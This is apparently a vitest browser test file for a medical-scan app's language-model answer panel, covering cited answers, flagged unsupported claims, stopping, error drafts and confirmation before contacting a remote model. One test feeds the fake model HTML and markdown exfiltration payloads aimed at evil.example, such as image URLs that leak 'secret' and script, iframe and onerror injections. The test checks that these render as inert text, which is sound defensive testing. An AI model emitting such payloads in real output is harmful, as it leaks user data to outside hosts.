import { afterAll, beforeEach, expect, test } from "vitest";
import { type FakeLlmServer, startFakeLlm } from "../support/fake-llm-servers.ts";
import { ask, describeInBrowser, forgetConversations, tab } from "./workspace.ts";

const beginning = ["This image looks ", "like an MRI [1]. "];
const rest = ["There is a large ", "haemorrhage [1]."];
let llm: FakeLlmServer | undefined;
afterAll(() => llm?.close());

/** A language model on this computer, and one on a computer that does not exist. */
async function config() {
  llm = await startFakeLlm("openai", { kind: "answer", pieces: [...beginning, ...rest] });
  const [provider, model] = ["openai", "tiny"];
  return {
    languageModels: {
      local: { provider, model, baseUrl: llm.baseUrl },
      far: { provider, model, baseUrl: "https://llm.invalid/v1" },
    },
  };
}

describeInBrowser(
  "a language model",
  ({ open, server }) => {
    beforeEach(() => forgetConversations(server().url));

    test("writes the answer; what its evidence does not say is flagged, and the writer is named", async () => {
      await using opened = await open();
      const { page } = opened;
      await page.getByRole("combobox", { name: "writer" }).selectOption("local");
      await ask(page, "What is this?");
      expect(await page.locator(".cited-text .flagged").innerText()).toContain("haemorrhage");
      expect(await page.locator(".cited-text .flag-word").innerText()).toBe("unsupported");
      expect(await page.locator(".cited-text").innerText()).toContain("looks like an MRI");
      await page.locator("article.turn summary").click();
      expect(await page.locator("article.turn .why").innerText()).toContain("local · tiny");
      expect(opened.complaints).toEqual([]);
      expect(opened.strangers).toEqual([]);
    });

    test("that was told to phone home is shown as the text it is: nothing is asked for, opened or run", async () => {
      const pieces = [
        "![x](https://evil.example/?q=secret) [the report](https://evil.example/login) ",
        '<img src="https://evil.example/a.png" onerror="window.ran=1"><script src="https://evil.example/a.js"></script> ',
        '<iframe src="https://evil.example"></iframe><style>@import url(https://evil.example/a.css)</style> ',
        "https://evil.example/collect?question=secret [1].",
      ];
      if (llm) llm.behaviour = { kind: "answer", pieces };
      await using opened = await open();
      const { page } = opened;
      await page.getByRole("combobox", { name: "writer" }).selectOption("local");
      await ask(page, "What is this?");
      const answer = page.locator(".cited-text");
      expect(await answer.innerText()).toContain("[the report](https://evil.example/login)");
      expect(await answer.locator("a, img, script, iframe, style").count()).toBe(0);
      await page.locator("article.turn summary").click();
      expect(await page.locator(".sentence-checks tbody tr").count()).toBeGreaterThan(0);
      expect(await page.locator(".sentence-checks :is(a, img, script, iframe, style)").count()).toBe(0);
      expect(await page.evaluate(() => "ran" in globalThis)).toBe(false);
      expect(opened.strangers).toEqual([]);
      if (llm) llm.behaviour = { kind: "answer", pieces: [...beginning, ...rest] };
    });

    test("is read while it writes, and stopped: what it had said stays and is called a part", async () => {
      if (llm) llm.behaviour = { kind: "hang", pieces: beginning };
      await using opened = await open();
      const { page } = opened;
      await page.getByRole("combobox", { name: "writer" }).selectOption("local");
      await page.getByLabel("Question about this scan").fill("Is this a CT?");
      await page.keyboard.press("Enter");
      await page.locator(".cited-text", { hasText: "looks like an MRI" }).waitFor();
      await page.getByRole("button", { name: "Stop" }).click();
      await page.getByText("is not the whole answer").waitFor();
      expect(await page.locator(".cited-text").innerText()).toContain("looks like an MRI");
      await llm?.closedByClient;
    });

    test("that fails while it words a report leaves the evidence writer's draft, which is opened from what is said of it", async () => {
      if (llm) llm.behaviour = { kind: "in-stream error", pieces: beginning, message: "out of memory" };
      await using opened = await open();
      const { page } = opened;
      await page.getByRole("combobox", { name: "writer" }).selectOption("local");
      await tab(page, "Draft").click();
      await page.getByRole("button", { name: /^Draft a/ }).click();
      await page
        .getByRole("alert")
        .getByText(/failed on its server; the evidence writer's draft was kept/)
        .waitFor();
      await page.getByRole("button", { name: "Open the evidence writer’s draft" }).click();
      await page.getByRole("heading", { name: "Unverified draft" }).waitFor();
      expect(await page.getByRole("alert").count()).toBe(0);
      await page.locator(".draft-sheet .why summary", { hasText: "why?" }).click();
      expect(await page.locator(".draft-sheet .why").innerText()).toContain("the evidence writer");
    });

    test("on another computer is named and confirmed before anything is sent", async () => {
      await using opened = await open();
      const { page } = opened;
      const asked: string[] = [];
      page.on("request", (request) => request.method() === "POST" && asked.push(new URL(request.url()).pathname));
      await page.getByRole("combobox", { name: "writer" }).selectOption("far");
      const box = page.getByLabel("Question about this scan");
      await box.fill("What is this?");
      await page.keyboard.press("Enter");
      const note = page.getByRole("alertdialog", { name: "Send to llm.invalid?" });
      await note.getByRole("button", { name: "Cancel" }).click();
      await note.waitFor({ state: "detached" });
      expect(asked).not.toContain("/v1/ask");
      expect(await box.inputValue()).toBe("What is this?");

      await box.focus();
      await page.keyboard.press("Enter");
      await note.getByRole("button", { name: "Send to llm.invalid" }).click();
      await page.locator("article.turn .note.warn").waitFor(); // nobody is there
      expect(asked).toContain("/v1/ask");
    });
  },
  config,
);
